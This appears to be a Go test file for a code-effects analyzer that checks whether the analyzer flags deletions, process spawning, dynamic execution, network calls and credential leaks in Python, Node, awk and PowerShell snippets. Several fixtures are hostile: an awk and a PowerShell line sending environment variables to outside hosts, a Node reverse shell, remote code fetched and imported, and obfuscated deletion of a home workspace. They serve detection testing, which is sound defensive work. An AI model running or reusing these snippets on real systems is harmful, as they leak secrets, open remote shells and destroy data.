package effects

import (
	"slices"
	"strings"
	"testing"
)

// TestCanonicalNames: aliases are written back as the names they stand
// for, outside strings and keyword arguments; a star import of a module
// that deletes, runs or sends is reported.
func TestCanonicalNames(t *testing.T) {
	for _, tc := range []struct {
		lang, code, want string
		hidden           bool
	}{
		{"python", `import shutil as s; s.rmtree('s')`, `import shutil as shutil; shutil.rmtree('s')`, false},
		{"python", `from os import system as run; run("ls")`, `from os import system as os.system; os.system("ls")`, false},
		{"python", `from shutil import rmtree; rmtree(p)`, `from shutil import shutil.rmtree; shutil.rmtree(p)`, false},
		{"python", "import os.path as p, json\nprint(p.expanduser('~'))", "import os.path as os.path, json\nprint(os.path.expanduser('~'))", false},
		{"python", `import numpy as np; f(np=1); print(np.zeros(3))`, `import numpy as numpy; f(np=1); print(numpy.zeros(3))`, false},
		{"python", `from os import *; system('id')`, `from os import *; system('id')`, true},
		{"python", `from math import *; print(sqrt(2))`, `from math import *; print(sqrt(2))`, false},
		{"node", `const {execSync: sh} = require("child_process"); sh("git status")`, `const {execSync: execSync} = require("child_process"); execSync("git status")`, false},
		{"node", `import {rmSync as wipe} from "node:fs"; wipe("/x", {wipe: 1})`, `import {rmSync as rmSync} from "node:fs"; rmSync("/x", {wipe: 1})`, false},
		{"node", `const r = require, cp = r("child_process")`, `const require = require, cp = require("child_process")`, false},
		{"node", `const run = cp.execSync; run("id") // run`, `const cp.execSync = cp.execSync; cp.execSync("id") // run`, false},
		{"ruby", `puts 1`, `puts 1`, false},
	} {
		got, hidden := canonicalNames(tc.lang, tc.code)
		if got != tc.want || hidden != tc.hidden {
			t.Errorf("canonicalNames(%s, %q) = %q, %v; want %q, %v", tc.lang, tc.code, got, hidden, tc.want, tc.hidden)
		}
	}
}

// TestAliasedCodeIsRead: what inline code does is found under any alias,
// and decoding data alone is not running built code.
func TestAliasedCodeIsRead(t *testing.T) {
	for _, tc := range []struct {
		lang, code string
		want       []string // found kinds that must be present
		deletes    []string
		not        []string // found kinds that must be absent
	}{
		{"python", `import shutil as s, os.path as p; s.rmtree(p.expanduser('~/projects'))`, nil, []string{"~/projects"}, nil},
		{"python", `from shutil import rmtree as r; r('/srv/data')`, nil, []string{"/srv/data"}, nil},
		{"python", `from os import system; system('ls')`, []string{foundSpawn}, nil, nil},
		{"python", `import subprocess as sp; sp.run(['ls'])`, []string{foundSpawn}, nil, nil},
		{"python", `from os import *; system('id')`, []string{foundDynamic}, nil, nil},
		{"python", `import runpy; runpy.run_path('/tmp/x.py')`, []string{foundDynamic}, nil, nil},
		{"python", `import base64,os; os.system(base64.b64decode('bHM='))`, []string{foundSpawn, foundDynamic}, nil, nil},
		{"python", `import base64 as b, json; print(json.loads(b.urlsafe_b64decode('e30=')))`, nil, nil, []string{foundDynamic}},
		{"node", `const {execSync: sh} = require("child_process"); sh("id")`, []string{foundSpawn}, nil, nil},
		{"awk", `BEGIN{s="/inet/tcp/0/203.0.113.9/4444"; for(k in ENVIRON) print k"="ENVIRON[k] |& s}`, []string{foundEnvDump}, nil, nil},
		{"r", `devtools::load_all(); testthat::test_dir("tests")`, nil, nil, []string{foundNetwork}},
		{"r", `remotes::install_github("someone/pkg")`, []string{foundNetwork}, nil, nil},
		{"python", `o = __import__('o' + 's'); getattr(__import__('sh' + 'util'), 'rm' + 'tree')(o.path.join(o.environ['HOME'], 'workspace'))`,
			nil, []string{"~/workspace"}, []string{foundDynamic}},
		{"python", `import importlib; importlib.import_module('sub'+'process').run(['id'])`, []string{foundSpawn}, nil, nil},
		{"node", `const n=require('net'),{spawn}=require('child_process');const s=n.connect(4444,'198.51.100.7',()=>{const sh=spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s)})`,
			[]string{foundReverseShell}, nil, nil},
		{"node", `const src = await (await fetch('https://cdn.example/x.mjs')).text(); await import('data:text/javascript;base64,' + Buffer.from(src).toString('base64'))`,
			[]string{foundDynamic, foundRemoteExec}, nil, nil},
	} {
		ce := analyzeCode(tc.lang, tc.code)
		for _, w := range tc.want {
			if !slices.Contains(ce.Found, w) {
				t.Errorf("analyzeCode(%s, %q).Found = %q, want %q in it", tc.lang, tc.code, ce.Found, w)
			}
		}
		for _, w := range tc.not {
			if slices.Contains(ce.Found, w) {
				t.Errorf("analyzeCode(%s, %q).Found = %q, want no %q", tc.lang, tc.code, ce.Found, w)
			}
		}
		for _, d := range tc.deletes {
			if !slices.Contains(ce.Deletes, d) {
				t.Errorf("analyzeCode(%s, %q).Deletes = %q, want %q in it", tc.lang, tc.code, ce.Deletes, d)
			}
		}
	}
}

// TestLiteralWrites: writes that all name a literal path are read as file
// writes; one write that does not (a computed path, a call the table does
// not list) leaves the code's writes unknown.
func TestLiteralWrites(t *testing.T) {
	signalsOnce.Do(compileSignals)
	for _, tc := range []struct {
		lang, code string
		want       []string
		ok         bool
	}{
		{"python", `import json; json.dump({}, open('out/summary.json', 'w'))`, []string{"out/summary.json"}, true},
		{"python", `from pathlib import Path; Path('docs/gen').mkdir(parents=True); Path('docs/gen/a.md').write_text('x')`, []string{"docs/gen", "docs/gen/a.md"}, true},
		{"python", `import os; os.makedirs('build/x', exist_ok=True)`, []string{"build/x"}, true},
		{"python", `open(sys.argv[1], 'w').write('x')`, nil, false},
		{"python", `open('a.txt', 'w').write('x'); shutil.copy('a.txt', '/etc/cron.d/x')`, nil, false},
		{"node", `require('fs').writeFileSync('dist/meta.json', '{}')`, []string{"dist/meta.json"}, true},
		{"node", "fs.writeFileSync(`${os.homedir()}/.npmrc`, 'x')", nil, false},
		{"ruby", `File.write('x', 'y')`, nil, false},
	} {
		got, ok := literalWrites(tc.lang, tc.code)
		if ok != tc.ok || !slices.Equal(got, tc.want) {
			t.Errorf("literalWrites(%s, %q) = %q, %v; want %q, %v", tc.lang, tc.code, got, ok, tc.want, tc.ok)
		}
	}
}

// TestDangerOnlyLanguages: code in a language without its own table is
// never allowed, but the dangers it spells out in shared words are found.
func TestDangerOnlyLanguages(t *testing.T) {
	for _, tc := range []struct {
		lang, code string
		want       []string
	}{
		{"unanalyzed", `local f=io.open(os.getenv("HOME").."/.bashrc","a"); f:write("x")`, []string{foundUnanalyzable, foundWrite}},
		{"unanalyzed", `include(download("https://x.example/boot.jl"))`, []string{foundUnanalyzable, foundNetwork, foundRemoteExec}},
		{"powershell", `Get-ChildItem env: | ConvertTo-Json | Invoke-RestMethod -Method Post -Uri https://x.example/c`, []string{foundUnanalyzable, foundNetwork, foundEnvDump}},
		{"unanalyzed", `print(1+1)`, []string{foundUnanalyzable}},
		{"sql", `select 1`, []string{foundUnanalyzable}},
	} {
		ce := analyzeCode(tc.lang, tc.code)
		for _, w := range tc.want {
			if !slices.Contains(ce.Found, w) {
				t.Errorf("analyzeCode(%s, %q).Found = %q, want %q in it", tc.lang, tc.code, ce.Found, w)
			}
		}
		if len(tc.want) == 1 && len(ce.Found) != 1 {
			t.Errorf("analyzeCode(%s, %q).Found = %q, want only %q", tc.lang, tc.code, ce.Found, tc.want)
		}
	}
}

// FuzzCanonicalNames: any code, in either language, is rewritten without a
// panic, and code without aliases comes back as it was.
func FuzzCanonicalNames(f *testing.F) {
	for _, s := range []string{`import shutil as s; s.rmtree('x\`, `print("a\`, "const {a: b} = require('x'); b(`", `from os import *`, `'''a`, ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		for _, lang := range []string{"python", "node"} {
			out, _ := canonicalNames(lang, code)
			if !strings.Contains(code, "import") && !strings.Contains(code, "require") && !strings.Contains(code, "=") && out != code {
				t.Fatalf("canonicalNames(%s, %q) = %q: changed code without aliases", lang, code, out)
			}
		}
	})
}
